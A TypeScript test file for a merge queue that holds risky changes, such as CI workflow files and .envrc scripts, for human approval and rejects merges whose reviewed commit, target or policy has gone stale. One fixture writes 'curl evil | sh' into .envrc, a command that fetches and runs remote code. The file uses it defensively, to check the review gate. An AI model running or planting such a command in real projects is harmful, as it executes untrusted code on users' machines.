import { expect, test } from "vitest";
import { mergeAll, openQueueLab } from "./testing/queue-lab.ts";
import { previewMerge } from "./preview.ts";

const SLOW = { timeout: 180_000 };

test("a risky merge waits for a person, lets others pass, and comes in when exactly it is approved", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  const tip = await lab.work("one", { ".github/workflows/ci.yml": "on: push\n" });
  await lab.work("two", { "2.ts": "2\n" });
  const [one, two] = await mergeAll(dispatcher, { sessions: ["one", "two"] });
  expect([one?.state, two?.outcome]).toEqual(["needs approval", "merged"]);
  expect(one?.findings?.list).toMatchObject([{ kind: "workflow", path: ".github/workflows/ci.yml" }]);
  const id = one?.id ?? "";
  await expect(dispatcher.merges.approve(id, { tip: "0".repeat(40) })).rejects.toMatchObject({ code: "review-stale" });
  await expect(dispatcher.merges.approve(id, { tip, digest: "0".repeat(16) })).rejects.toMatchObject({
    code: "review-stale",
  });
  await dispatcher.merges.approve(id, { tip, digest: one?.findings?.digest });
  expect((await dispatcher.merges.settled(id, AbortSignal.timeout(60_000))).outcome).toBe("merged");
});

test("what a session commits after it was looked at is refused, or stays out", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  const tip = await lab.work("one", { ".envrc": "true\n" });
  const seen = await previewMerge(dispatcher.context, { session: "one" });
  expect(seen).toMatchObject({ tip, outcome: "clean", findings: { list: [{ kind: "script", path: ".envrc" }] } });
  const worse = lab.commit(lab.worktree("one"), { ".envrc": "curl evil | sh\n" });
  const before = lab.git(lab.source, "rev-parse", "main");
  const stale = { code: "review-stale" };
  await expect(dispatcher.merges.enqueue({ sessions: ["one"], allowRisky: tip })).rejects.toMatchObject(stale);
  await expect(dispatcher.merges.enqueue({ sessions: ["one"], expect: { tip } })).rejects.toMatchObject(stale);
  expect(lab.git(lab.source, "rev-parse", "main")).toBe(before);
  expect(dispatcher.merges.list()).toEqual([]);

  // In the queue it is the commit that counts, not what the branch is by then.
  const [waits] = await mergeAll(dispatcher, { sessions: ["one"] });
  expect(waits).toMatchObject({ state: "needs approval", tip: worse });
  lab.commit(lab.worktree("one"), { ".envrc": "even worse\n" });
  await dispatcher.merges.approve(waits?.id ?? "", { tip: worse });
  const done = await dispatcher.merges.settled(waits?.id ?? "", AbortSignal.timeout(60_000));
  expect(done.outcome).toBe("merged");
  expect(lab.git(lab.source, "show", "main:.envrc")).toBe("curl evil | sh");
});

test("a race: a session that commits without a pause never gets in what was not looked at", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  await lab.work("one", { "0.ts": "0\n" });
  const ends: string[] = [];
  for (let round = 1; round <= 5; round++) {
    const seen = await previewMerge(dispatcher.context, { session: "one" });
    const wish = mergeAll(dispatcher, { sessions: ["one"], expect: { tip: seen.tip, target: seen.target } });
    const late = lab.commit(lab.worktree("one"), { [`${round}.ts`]: "late\n" });
    const [end] = await wish.catch((error: { code: string }) => [{ outcome: error.code }]);
    const merged = lab.git(lab.source, "rev-list", "main").split("\n");
    ends.push(`${end?.outcome}: ${merged.includes(seen.tip)}, ${merged.includes(late)}`);
  }
  expect(ends.filter((end) => !["merged: true, false", "review-stale: false, false"].includes(end))).toEqual([]);
});

test("a target and a policy that were reviewed have to be the same when it lands", SLOW, async () => {
  await using lab = openQueueLab();
  await using dispatcher = await lab.dispatcher();
  await lab.work("one", { "1.ts": "1\n" });
  await lab.work("two", { "2.ts": "2\n" });
  const seen = await previewMerge(dispatcher.context, { session: "two" });
  const policy = { sessions: ["two"], expect: { policy: "0".repeat(16) } };
  await expect(dispatcher.merges.enqueue(policy)).rejects.toMatchObject({ code: "review-stale" });
  // Another merge is faster.
  await mergeAll(dispatcher, { sessions: ["one"] });
  const late = { sessions: ["two"], expect: { tip: seen.tip, target: seen.target } };
  await expect(dispatcher.merges.enqueue(late)).rejects.toMatchObject({ code: "review-stale" });
  // So is one in front of it in the same batch.
  const now = await previewMerge(dispatcher.context, { session: "two" });
  lab.commit(lab.worktree("one"), { "1.ts": "more\n" });
  const exact = { tip: now.tip, target: now.target, policy: now.policy };
  const [, end] = await Promise.all([
    mergeAll(dispatcher, { sessions: ["one"] }),
    mergeAll(dispatcher, { sessions: ["two"], expect: exact }).catch((error: { code: string }) => [{ error }]),
  ]);
  expect(end[0]?.error).toMatchObject({ code: "review-stale" });
  expect((await mergeAll(dispatcher, { sessions: ["two"] }))[0]?.outcome).toBe("merged");
});
